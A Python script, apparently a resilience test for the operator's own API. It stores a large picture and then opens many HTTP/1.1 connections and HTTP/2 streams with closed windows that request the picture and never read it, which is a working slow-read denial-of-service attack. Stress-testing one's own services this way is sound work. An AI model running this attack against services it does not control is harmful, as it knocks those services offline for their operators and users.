"""Many requests for one large stored picture that nobody reads: by HTTP/1.1 connections, and by streams of HTTP/2 whose window
is closed while pings are answered. Stores the picture first, and removes it at the end: where there are keys, --key may write."""

import json
import time
from urllib.parse import quote

from raw import Health, Http2, arguments, ask, authorization, connect, get, is_open, noise_png, report, send

PRODUCT = "attack-unread-pictures"


def by_http1(given, path, end, health):
    open_now, opened, closed = [], 0, 0
    while time.monotonic() < end:
        left = [raw for raw in open_now if is_open(raw)]
        closed += len(open_now) - len(left)
        open_now = left
        while len(open_now) < given.connections:
            raw = connect(given, receive_buffer=4096)
            if raw is None or not send(raw, get(path, given.key)):
                break
            open_now.append(raw)
            opened += 1
        health.check()
        time.sleep(0.2)
    for raw in open_now:
        raw.close()
    return {"opened": opened, "closed_by_server": closed}


def by_http2(given, path, end, health):
    open_now, opened, closed, data_bytes = [], 0, 0, 0
    while time.monotonic() < end:
        for connection in open_now:
            connection.pump()
        left = [connection for connection in open_now if connection.open]
        closed += len(open_now) - len(left)
        open_now = left
        while len(open_now) < given.http2_connections:
            raw = connect(given)
            if raw is None:
                break
            connection = Http2(raw, window=0)
            for _ in range(given.streams):
                connection.get(path, given.key)
            open_now.append(connection)
            opened += 1
        health.check()
        time.sleep(0.2)
    for connection in open_now:
        data_bytes += connection.data_bytes
        connection.raw.close()
    return {"opened": opened, "closed_by_server": closed, "data_bytes": data_bytes}


def main():
    given = arguments(__doc__, connections=300, http2_connections=4, streams=128, way="both", side=1850)
    headers = {"content-type": "image/png"} | authorization(given.key)
    picture = noise_png(given.side)
    status, body = ask(given, "PUT", f"/v1/products/{PRODUCT}", picture, headers)
    if status not in (200, 201):
        raise SystemExit(f"the picture cannot be stored: {status} {body.decode(errors='replace')}")
    path = f"/v1/products/{PRODUCT}/pictures/{quote(json.loads(body)['pictures'][0]['id'])}"
    ways = {"http1": by_http1, "http2": by_http2}
    ways = {name: way for name, way in ways.items() if given.way in (name, "both")}
    seen = {}
    try:
        for name, way in ways.items():
            health = Health(given)
            seen[name] = way(given, path, time.monotonic() + given.seconds / len(ways), health) | health.seen()
    finally:
        ask(given, "DELETE", f"/v1/products/{PRODUCT}")
    report(attack="unread_pictures", picture_bytes=len(picture), **seen)


if __name__ == "__main__":
    main()
